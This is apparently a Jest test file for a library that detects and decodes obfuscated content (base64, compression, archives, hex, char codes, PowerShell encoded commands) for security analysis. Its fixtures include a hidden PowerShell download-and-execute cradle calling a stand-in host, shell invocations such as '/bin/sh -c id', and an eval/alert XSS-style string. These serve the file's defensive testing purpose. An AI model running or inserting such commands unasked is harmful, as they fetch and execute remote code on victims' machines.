// Default mode: every supported encoding, recursion, spans, chains, types and hashes.
import { createHash } from 'crypto';
import { decodeTexts, IDecodedItem } from '../index';
import { b64, deflateRaw, gz, makeTar, makeZip, zlibWrap } from './helpers';

const one = (text: string): IDecodedItem[] => decodeTexts([text]);
const md5 = (b: Uint8Array | string) => createHash('md5').update(b).digest('hex');
const sha256 = (b: Uint8Array | string) => createHash('sha256').update(b).digest('hex');

describe('decodeTexts default mode', () => {
  it('decodes PowerShell -EncodedCommand (UTF-16LE) with its span and chain', () => {
    const enc = b64(
      'IEX (New-Object Net.WebClient).DownloadString("http://x.example/a")',
      'utf16le'
    );
    const text = `powershell.exe -NoP -W Hidden -EncodedCommand ${enc} more`;
    const [it] = one(text);
    expect(it.decodedString).toBe(
      'IEX (New-Object Net.WebClient).DownloadString("http://x.example/a")'
    );
    expect(it.chain).toEqual(['base64', 'utf-16le']);
    expect(text.slice(it.start, it.end)).toBe(enc);
    expect(it.md5).toBe(md5(Buffer.from(it.decodedString!, 'utf16le')));
    expect(it.sha256).toBe(sha256(Buffer.from(it.decodedString!, 'utf16le')));
  });

  it('takes short -enc values and every -e prefix', () => {
    for (const p of ['-e', '-ec', '-enc', '-EncodedC', '/enc']) {
      const [it] = one(`powershell ${p} ${b64('dir', 'utf16le')}`);
      expect(it?.decodedString).toBe('dir');
    }
    expect(one(`powershell -ex ${b64('dir', 'utf16le')}`)).toEqual([]);
  });

  it.each([
    ['standard', b64('a standard base64 text payload ~~~ ???')],
    ['url-safe', Buffer.from('a url-safe base64 text payload ~~~ ???').toString('base64url')],
    ['unpadded', b64('unpadded base64 text, yes').replace(/=+$/, '')],
    [
      'line-wrapped',
      (b64('x'.repeat(10) + ' line wrapped base64 text '.repeat(6)).match(/.{1,64}/g) ?? []).join(
        '\r\n'
      )
    ]
  ])('decodes %s base64', (_k, enc) => {
    const items = one(`before ${enc} after`);
    expect(items).toHaveLength(1);
    expect(items[0].decodedString).toMatch(/base64 text/);
  });

  it('decodes gzip, zlib and raw deflate under base64', () => {
    const [g] = one('x=' + b64(gz('gzip inside base64')));
    expect(g.chain).toEqual(['base64', 'gzip', 'utf-8']);
    expect(g.decodedString).toBe('gzip inside base64');
    const [z] = one('x=' + b64(zlibWrap('zlib inside base64')));
    expect(z.chain).toEqual(['base64', 'zlib', 'utf-8']);
    const [d] = one(
      `FromBase64String('${b64(deflateRaw('Write-Host raw deflate from PowerShell'))}')`
    );
    expect(d.chain).toEqual(['base64', 'deflate', 'utf-8']);
    expect(d.decodedString).toBe('Write-Host raw deflate from PowerShell');
  });

  it('follows base64 > gzip > utf-16le', () => {
    const [it] = one(b64(gz(new Uint8Array(Buffer.from('\ufeffutf16 text in gzip', 'utf16le')))));
    expect(it.chain).toEqual(['base64', 'gzip', 'utf-16le']);
    expect(it.decodedString).toBe('utf16 text in gzip');
  });

  it('lists and extracts zip and tar members, one item each', () => {
    const zip = makeZip([
      { name: 'a.txt', data: Buffer.from('first member text') },
      { name: 'b.bin', data: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) }
    ]);
    const items = one('blob ' + b64(zip));
    expect(items.map(i => [i.id, i.fileName, i.chain.join('>'), i.fileType])).toEqual([
      ['1.1', 'a.txt', 'base64>zip>utf-8', null],
      ['1.2', 'b.bin', 'base64>zip', 'elf']
    ]);
    const tar = makeTar([{ name: 'dir/t.txt', data: Buffer.from('tar member text') }]);
    const [t] = one(b64(tar));
    expect([t.fileName, t.decodedString, t.chain]).toEqual([
      'dir/t.txt',
      'tar member text',
      ['base64', 'tar', 'utf-8']
    ]);
  });

  it.each([
    [
      'pe-exe',
      Buffer.concat([
        Buffer.from('MZ'),
        Buffer.alloc(0x3a),
        Buffer.from([0x40, 0, 0, 0]),
        Buffer.from('PE\0\0'),
        Buffer.alloc(40)
      ])
    ],
    ['elf', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(40, 7)])],
    ['7z', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), Buffer.alloc(40, 1)])],
    ['rar', Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00'), Buffer.alloc(40, 1)])],
    [
      'ole',
      Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.alloc(40, 1)
      ])
    ],
    ['pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(40, 0xee)])]
  ])('reports %s by magic bytes without extracting it', (type, bytes) => {
    const [it] = one('file: ' + b64(new Uint8Array(bytes)));
    expect(it.fileType).toBe(type);
    expect(it.decodedString).toBeNull();
    expect(it.md5).toBe(md5(bytes));
    expect(it.bytes).toEqual(new Uint8Array(bytes));
  });

  it.each([
    ['plain hex', '2F62696E2F7368202D63206964', '/bin/sh -c id', 'hex'],
    ['\\x escapes', '"\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68"', '/bin/sh', 'hex-escape'],
    ['0x list', '{0x2f, 0x62, 0x69, 0x6e, 0x2f, 0x73, 0x68}', '/bin/sh', 'hex-0x'],
    ['0x run', 'x = 0x2f62696e2f7368202d63206964;', '/bin/sh -c id', 'hex-0x'],
    ['spaced pairs', 'dump: 2f 62 69 6e 2f 73 68 20 2d 63', '/bin/sh -c', 'hex'],
    ['percent', 'GET /a?q=%63%6d%64%20%2f%63%20%64%69%72 HTTP', '/a?q=cmd /c dir', 'percent'],
    ['%u escapes', 'x=unescape("%u0048%u0069%u0021")', 'Hi!', 'percent-u'],
    ['\\u escapes', '"\\u0048\\u0069\\u0021"', 'Hi!', 'unicode-escape'],
    ['[char] codes', 'iex ([char]100+[char]105+[char]114+[char]32+[char]99)', 'dir c', 'charcode'],
    ['char list', "[char[]](100,105,114,32,99,58) -join ''", 'dir c:', 'charcode'],
    [
      'fromCharCode',
      'eval(String.fromCharCode(97,108,101,114,116,40,49,41))',
      'alert(1)',
      'charcode'
    ],
    ['Chr()', 'x = Chr(100) & Chr(105) & Chr(114) & Chr(32) & Chr(99)', 'dir c', 'charcode']
  ])('decodes %s', (_k, text, want, enc) => {
    const [it] = one(text);
    expect(it?.decodedString).toBe(want);
    expect(it.chain[0]).toBe(enc);
  });

  it('recurses through nested layers with hierarchical ids and a rewritten text', () => {
    const inner = b64('third layer text');
    const text = 'cmd ' + b64('second: ' + b64('first: ' + inner));
    const items = one(text);
    expect(items.map(i => [i.id, i.depth])).toEqual([
      ['1', 1],
      ['1.1', 2],
      ['1.1.1', 3]
    ]);
    expect(items[2].decodedString).toBe('third layer text');
    expect(items[0].fullDecodedString).toContain(
      "index='1.1.1' depth='3'>third layer text</decoded>"
    );
    expect(items[1].reference).toEqual(['1.', '2.', '1']);
  });

  it('does not report hashes, identifiers and paths as binary noise', () => {
    const text =
      'md5 9fd687fb66a85f89cc413728a179fb0d sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 ' +
      'C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe SomeVeryLongIdentifierNameForTesting_1234';
    expect(one(text)).toEqual([]);
  });

  it('keeps long random-looking base64 as binary', () => {
    const bytes = new Uint8Array(96).map((_, i) => (i * 89 + 17) & 0xff);
    const [it] = one('key=' + b64(bytes));
    expect(it.encoding).toBe('binary');
    expect(it.bytes).toEqual(bytes);
    expect(it.printableBytes?.startsWith('11 6a c3')).toBe(true);
  });

  it('passes decoded texts to an injected IoC extractor', () => {
    const extractor = (texts: (string | null)[]) =>
      texts.flatMap((t, row) =>
        [...(t ?? '').matchAll(/\d+\.\d+\.\d+\.\d+/g)].map(m => ({
          type: 'ipv4',
          value: m[0],
          row
        }))
      );
    const [it] = decodeTexts([b64('connect to 10.1.2.3 now please')], { iocExtractor: extractor });
    expect(it.iocs).toEqual([{ type: 'ipv4', value: '10.1.2.3' }]);
  });

  it('handles null, empty and non-encoded texts', () => {
    expect(decodeTexts([null, '', 'plain words only'])).toEqual([]);
  });
});
